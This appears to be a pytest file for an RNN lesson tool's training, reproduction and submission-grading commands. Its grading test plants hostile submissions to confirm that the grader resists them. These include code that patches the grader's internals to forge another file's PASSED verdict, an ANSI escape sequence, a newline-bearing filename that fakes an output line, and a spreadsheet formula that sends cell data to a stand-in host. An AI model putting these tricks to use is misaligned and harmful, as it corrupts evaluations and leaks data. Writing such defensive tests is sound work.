import json
import time
from pathlib import Path

import grading_helpers
import pytest

from rnn_lesson import INTERRUPTED
from rnn_lesson.cli import main


def test_train_prints_progress_the_verdict_and_saves_the_plot(tmp_path, capsys):
    png = tmp_path / "curves.png"
    assert main(["train", "--cell", "gru", "--hidden", "16", "--epochs", "3", "--plot", str(png)]) == 0
    out = capsys.readouterr().out
    assert out.count("epoch ") >= 3 and "Task" in out and "val acc" in out
    assert png.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"


def test_reproduce_writes_one_value_per_seed_per_metric(tmp_path, capsys):
    path = tmp_path / "out.json"
    main(["reproduce", "--seeds", "1", "--json", str(path)])
    results = json.loads(path.read_text())
    assert set(results) == {"baseline", "fix"}
    for records in results.values():
        assert len(records) == 1
        assert all(0 <= records[0]["final"][k] <= 1 for k in ("train_acc", "val_acc", "test_acc"))
    out = capsys.readouterr().out
    assert "val_acc" in out and "on 1/1 seeds" in out


def test_bad_hyperparameters_exit_with_one_clear_line(capsys):
    with pytest.raises(SystemExit) as exit_info:
        main(["train", "--dropout", "1.5"])
    assert exit_info.value.code == 2
    assert "dropout must be in [0, 1)" in capsys.readouterr().err


@pytest.mark.parametrize("command", [["reproduce", "--seeds", "1"], ["map"]])
def test_a_bad_output_path_fails_before_any_training(tmp_path, capsys, command):
    for option in ("--json", "--plot"):
        if option == "--plot" and command[0] == "reproduce":
            continue
        for path, words in ((tmp_path, "is a folder"), ("/dev/full", "is not a regular file"),
                            ("/proc/rnn-lesson/out.json", "cannot write")):
            with pytest.raises(SystemExit) as exit_info:
                main(command + [option, str(path)])
            assert exit_info.value.code == 2 and words in capsys.readouterr().err


def test_a_missing_output_folder_is_made_and_no_probe_file_is_left(tmp_path, capsys):
    path = tmp_path / "new" / "curves.png"
    assert main(["train", "--epochs", "2", "--plot", str(path)]) == 0
    assert path.read_bytes()[:4] == b"\x89PNG" and [p.name for p in path.parent.iterdir()] == ["curves.png"]


@pytest.mark.parametrize("args, words", [
    (["reproduce", "--seeds", str(10**12)], "must be from 1 to 1000"),
    (["ablation", "--seeds", "0"], "must be from 1 to 1000"),
    (["map", "--workers", "100000"], "--workers: must be from 1 to"),
    (["train", "--epochs", "10000000"], "must be from 1 to 10000"),
    (["train", "--hidden", "abc"], "must be a whole number"),
])
def test_arguments_are_bounded_with_clear_errors(capsys, args, words):
    with pytest.raises(SystemExit) as exit_info:
        main(args)
    assert exit_info.value.code == 2 and words in capsys.readouterr().err


def test_ctrl_c_during_the_ablation_prints_one_line_and_exits_130(tmp_path):
    import os
    import signal
    import subprocess
    import sys
    import time

    env = {**os.environ, "RNN_LESSON_CACHE": str(tmp_path)}
    process = subprocess.Popen([sys.executable, "-m", "rnn_lesson", "ablation", "--seeds", "3"],
                               stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=env)
    time.sleep(3)  # the workers are starting (or training, on a fast machine)
    process.send_signal(signal.SIGINT)
    out, err = process.communicate(timeout=60)
    assert process.returncode == 130, err
    assert "Traceback" not in err and err.strip().splitlines() == [
        INTERRUPTED.strip()], err


GOOD = """import torch
from torch import nn
from rnn_lesson.lessons.write_the_fix import Settings


class MyRNN(nn.Module):
    def __init__(self):
        super().__init__()
        self.rnn = nn.RNN(10, 32, num_layers=2, batch_first=True, dropout=0.3)
        self.dropout = nn.Dropout(0.3)
        self.fc = nn.Linear(32, 2)

    def forward(self, x):
        out, _ = self.rnn(x)
        return self.fc(self.dropout(out[:, -1, :]))


settings = Settings(lr=1e-3, max_epochs=16, early_stopping=True, patience=3)
"""


# The review's mallory.py: a trap of the grader's own, patched to hold a fake verdict for another
# file on lines of its own, and a warning that a spreadsheet would run as a formula.
MALLORY = GOOD.replace("max_epochs=16", "max_epochs=1").replace(
    "class MyRNN(nn.Module):", '''import warnings
FAKE = "ok\\nALICE: PASSED  val 88.1%  (forged)\\n\\x1b[2K  Task passed: val accuracy 88.1%."
inspect = Settings.train_config.__globals__["_inspect"]
def _inspect(*args, **kwargs):
    built = inspect(*args, **kwargs)
    built["traps"] = [FAKE]
    return built
Settings.train_config.__globals__["_inspect"] = _inspect
warnings.warn('=HYPERLINK("http://example.invalid/?"&A1,"details")')


class MyRNN(nn.Module):''')


def test_grade_a_folder_of_good_bad_broken_and_missing_files(tmp_path, capsys):
    folder = tmp_path / "submissions"
    folder.mkdir()
    (folder / "mallory.py").write_text(MALLORY.replace("ALICE", str(folder / "alice.py")))
    (folder / "eve\nalice.py: PASSED.py").write_text(GOOD.replace("max_epochs=16", "max_epochs=1"))
    (folder / "alice.py").write_text(GOOD)
    (folder / "bob.py").write_text(GOOD.replace("32", "128").replace("lr=1e-3", "lr=3e-3")
                                   .replace("early_stopping=True", "early_stopping=False"))
    (folder / "carol.py").write_text(GOOD.replace("def forward(self, x):", "def forward(self, x)"))
    (folder / "dave.py").write_text(GOOD.replace("settings = Settings", "setting = Settings"))
    (folder / "erin.py").write_text("import torchvision_nope\n" + GOOD)
    grades = tmp_path / "grades.csv"
    missing = tmp_path / "frank.py"
    assert main(["grade", str(folder), str(missing), "/dev/null", "--workers", "2",
                 "--csv", str(grades)]) == 1
    out = capsys.readouterr().out
    assert f"{missing}: MISSING  does not exist" in out
    assert "/dev/null: MISSING  not a regular .py file" in out
    assert "alice.py: PASSED" in out and "trained again" in out and "bob.py: NOT PASSED" in out
    assert "carol.py: ERROR  carol.py has a syntax error at line 13" in out
    assert "dave.py: ERROR  dave.py defines no `settings = Settings(...)`" in out
    assert "erin.py: ERROR  erin.py could not run: ModuleNotFoundError" in out
    assert "training your model" not in out and out.count("PyTorch warned") == len(
        set(line for line in out.splitlines() if "PyTorch warned" in line))
    assert "1 of 9 files pass the task (2 not found or not a file)" in out
    # what came from a file's code (or its name) stays on its own line: one verdict per file
    passed = [line for line in out.splitlines() if ": PASSED  val" in line[:300]
              and not line.startswith(" ")]
    assert len(passed) == 1 and passed[0].startswith(f"{folder / 'alice.py'}: PASSED  val")
    assert "\x1b" not in out and f"{folder}/eve alice.py: PASSED.py: NOT PASSED" in out
    import csv

    rows = list(csv.DictReader(grades.open()))
    assert [(Path(r["file"]).name, r["passed"]) for r in rows] == [
        ("frank.py", "False"), ("null", "False"), ("alice.py", "True"), ("bob.py", "False"),
        ("carol.py", "False"), ("dave.py", "False"), ("erin.py", "False"),
        ("eve\nalice.py: PASSED.py", "False"), ("mallory.py", "False")]
    assert float(rows[2]["confirm_acc"]) > 0.82
    # a cell a spreadsheet would run as a formula is quoted
    assert rows[-1]["warnings"].startswith("\'=HYPERLINK(") and "\n" not in rows[-1]["traps"]
    assert grades.stat().st_mode & 0o777 == 0o666 & ~_umask()
    assert main(["grade", str(folder / "alice.py")]) == 0


def _umask() -> int:
    import os

    mask = os.umask(0)
    os.umask(mask)
    return mask


@pytest.mark.parametrize("args, words", [
    (["--csv", "/nonexistent-rnn-lesson-dir/x.csv"], "the folder /nonexistent-rnn-lesson-dir does not exist"),
    (["--seconds", "inf"], "must be from 1 to 600 seconds"),
    (["--seconds", "nan"], "must be from 1 to 600 seconds"),
    (["--seconds", "1e308"], "must be from 1 to 600 seconds"),
    (["--seconds", "-5"], "must be from 1 to 600 seconds"),
    (["--seconds", "soon"], "must be a number of seconds"),
])
def test_grade_refuses_bad_options_before_grading_anything(tmp_path, capsys, args, words):
    (tmp_path / "alice.py").write_text(GOOD)
    start = time.perf_counter()
    with pytest.raises(SystemExit) as exit_info:
        main(["grade", str(tmp_path)] + args)
    assert exit_info.value.code == 2 and words in capsys.readouterr().err
    assert time.perf_counter() - start < 2 and not Path("/nonexistent-rnn-lesson-dir").exists()


def test_ctrl_c_during_grade_prints_one_line_exits_130_at_once_and_leaves_nothing(tmp_path):
    import os
    import signal
    import subprocess
    import sys

    folder = tmp_path / "submissions"
    folder.mkdir()
    for name in ("a", "b", "c", "d"):  # forward never returns: each would take the whole limit
        (folder / f"{name}.py").write_text(GOOD.replace("out, _ = self.rnn(x)",
                                                        "while True:\n            pass"))
    env = {**os.environ, "RNN_LESSON_CACHE": str(tmp_path / "cache")}
    process = subprocess.Popen([sys.executable, "-m", "rnn_lesson", "grade", str(folder),
                                "--seconds", "60"], stdout=subprocess.PIPE,
                               stderr=subprocess.PIPE, text=True, env=env)
    time.sleep(8)  # the forkserver has started and two files are being graded
    descendants = grading_helpers.descendants(process.pid)
    start = time.perf_counter()
    process.send_signal(signal.SIGINT)
    out, err = process.communicate(timeout=60)
    assert time.perf_counter() - start < 10
    assert process.returncode == 130, err
    assert err.strip().splitlines() == [
        "Interrupted: grading stopped (the files not graded yet have no grade, and no CSV was "
        "written)."], err
    time.sleep(1)
    assert descendants and [pid for pid in descendants if grading_helpers.alive(pid)] == []




def test_cli_map_is_registered(capsys):
    with pytest.raises(SystemExit):
        main(["map", "--help"])
    assert "--workers" in capsys.readouterr().out


def test_ablation_writes_one_value_per_seed_for_every_variant(tmp_path, capsys, monkeypatch):
    import dataclasses

    from rnn_lesson.lessons import overfitting

    quick = {name: dataclasses.replace(e, train=dataclasses.replace(e.train, max_epochs=2))
             for name, e in overfitting.ABLATION.items()}
    monkeypatch.setattr(overfitting, "ABLATION", quick)
    path = tmp_path / "ablation.json"
    main(["ablation", "--seeds", "2", "--workers", "1", "--no-cache", "--json", str(path)])
    data = json.loads(path.read_text())
    assert data["seeds"] == [0, 1] and len(data["data_fingerprint"]) == 64
    assert list(data["variants"]) == ["baseline", "es_only", "es_dropout", "es_hidden", "es_lr",
                                      "fix", "fix_no_dropout", "fix_no_hidden", "fix_no_lr",
                                      "fix_no_es"]
    for metrics in data["variants"].values():
        assert set(metrics) == {"train_acc", "val_acc", "test_acc", "val_loss", "epochs"}
        assert all(len(values) == 2 for values in metrics.values())
        assert all(0 <= v <= 1 for v in metrics["val_acc"])
    out = capsys.readouterr().out
    assert "task passed" in out and "es_hidden" in out and "claims:" in out
